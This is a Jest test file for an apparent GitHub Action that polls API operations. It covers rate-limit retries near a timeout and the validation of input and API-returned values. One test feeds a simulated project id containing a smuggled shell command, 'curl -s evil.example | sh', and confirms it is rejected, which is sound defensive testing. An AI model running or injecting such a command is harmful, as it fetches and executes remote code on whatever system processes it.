import { afterEach, describe, expect, it } from '@jest/globals';
import { operation, project, singleProject } from '../../simulator/scenario.js';
import type { Simulator } from '../../simulator/server.js';
import { runAction } from '../helpers/run-action.js';
import { DEFAULT_KEY, PROJECT, simulate } from '../helpers/sim.js';

/** What the step writes at the wait's edges; the decisions themselves are in `__tests__/edges.test.ts`. */
let sim: Simulator | undefined;
afterEach(async () => {
  await sim?.close();
  sim = undefined;
});

const inputs = (s: Simulator, more: Record<string, string>) => ({
  inputs: { api_key: DEFAULT_KEY, api_host: s.url, summary_limit: '0', ...more }
});
const finished = () =>
  operation(PROJECT, 'create_branch', [
    [-2000, 'running'],
    [-1000, 'finished']
  ]);

describe('the wait near its deadline', () => {
  it('a 429 storm without Retry-After gets a last try before the deadline, which succeeds', async () => {
    const op = finished();
    sim = await simulate([op]);
    // The first two requests get 429: the backoff (2.5 to 5 s, then 5 to 10 s) alone would give
    // up after the second; the last try is placed before the 6 s deadline instead.
    sim.inject({ kind: 'status', status: 429 }, { times: 2 });
    const run = await runAction(
      inputs(sim, { project_id: PROJECT, operation_id: op.id, timeout: '6s' })
    );
    expect(run.outputs.status).toBe('finished');
    expect(run.code).toBe(0);
    expect(sim.requests.map((r) => r.status)).toEqual([429, 429, 200]);
    const [first, , last] = sim.requests;
    expect((last?.at ?? 0) - (first?.at ?? 0)).toBeLessThan(6000);
  });

  it('when 429s last, the message says when the last request went and why none followed', async () => {
    const op = operation(PROJECT, 'create_branch', [[-2000, 'running']]);
    sim = await simulate([op]);
    sim.inject({ kind: 'status', status: 429, message: 'rate limit' }, { times: Infinity });
    const run = await runAction(
      inputs(sim, { project_id: PROJECT, operation_id: op.id, timeout: '4s' })
    );
    expect(run.outputs.status).toBe('timeout');
    expect(run.outputs.timed_out).toBe('true');
    const said =
      /::error::Still waiting for operation \S+ \(not seen yet\): the 4s timeout left no time to retry the failed request at (\d+(?:\.\d)?)s\. Last error: HTTP 429: rate limit/.exec(
        run.stdout
      );
    expect(said).not.toBeNull();
    // The time said is the last request's, on the step's own clock: a retry went after the first
    // request, before the deadline. Which time exactly is decided in-process, on simulated time
    // (__tests__/edges.test.ts, "with 429s throughout, tries last just before the deadline and
    // says so"): compared here with when the simulator received the requests, it moved with how
    // late a busy machine delivered them (3.7s said, 3.88 s between arrivals).
    expect(sim.requests.length).toBeGreaterThanOrEqual(2);
    expect(Number(said?.[1])).toBeGreaterThan(0);
    expect(Number(said?.[1])).toBeLessThan(4);
    expect(run.summary).toContain('the 4s timeout left no time to retry the failed request');
  });
});

describe('ids and times from outside', () => {
  it('a project id from the API that is not an id never reaches the project_id output', async () => {
    const scenario = singleProject(PROJECT, []);
    scenario.projects = [project('x; curl -s evil.example | sh')];
    sim = await simulate(scenario);
    const run = await runAction(inputs(sim, {}));
    expect(run.code).toBe(1);
    expect(run.outputs.status).toBe('api_error');
    expect(run.outputs.project_id).toBe('');
    expect(run.stdout).toMatch(
      /::error::The API answered with a project id that is not a valid id/
    );
    expect(sim.requests).toHaveLength(1);
  });

  it('since: a bare number is an input error that names the input and the forms, before any request', async () => {
    sim = await simulate([]);
    const run = await runAction(inputs(sim, { project_id: PROJECT, since: '86400' }));
    expect(run.outputs.status).toBe('input_error');
    expect(run.stdout).toMatch(/::error::Input 'since' must be .* a number without a unit\./);
    expect(sim.requests).toHaveLength(0);
  });
});
